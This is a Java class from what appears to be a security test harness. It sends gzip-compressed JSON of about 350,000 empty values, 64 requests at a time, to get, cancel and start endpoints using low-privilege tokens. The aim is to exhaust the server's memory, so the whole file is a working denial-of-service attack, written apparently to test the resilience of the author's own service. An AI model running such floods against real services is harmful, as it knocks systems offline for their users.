package dev.longrun.tools.attack;

import java.util.Map;

/** JSON that takes forty times as much memory as text, from callers with few rights. */
final class ManyValues implements Attack {
  private static final int AT_ONCE = 64;

  @Override
  public String name() {
    return "5  JSON of 350,000 values, from a viewer, an operator and a worker";
  }

  @Override
  public void run(Site site, Notes notes) {
    String values = "[" + "{},".repeat(349_000) + "{}]";
    Map<Integer, Integer> read = flood(site, "GET", "/x", Site.READER, "{\"x\":" + values + "}");
    notes.add("to get: " + read);
    notes.add(
        "to cancel: " + flood(site, "POST", "/x:cancel", Site.CANCELLER, "{\"x\":" + values + "}"));
    notes.add(
        "cancel many: "
            + flood(site, "POST", ":cancel", Site.CANCELLER, "{\"filter\":" + values + "}"));
    notes.add(
        "start: "
            + flood(
                site,
                "POST",
                ":start",
                Site.WORKER,
                "{\"metadata\":{\"@type\":\"example.com/x\",\"x\":" + values + "}}"));
  }

  private static Map<Integer, Integer> flood(
      Site site, String method, String path, String token, String body) {
    byte[] request =
        Wire.request(
            method, Site.OPERATIONS + path, token, Wire.gzip(body), "Content-Encoding: gzip");
    return site.flood(AT_ONCE, 0, it -> request);
  }
}
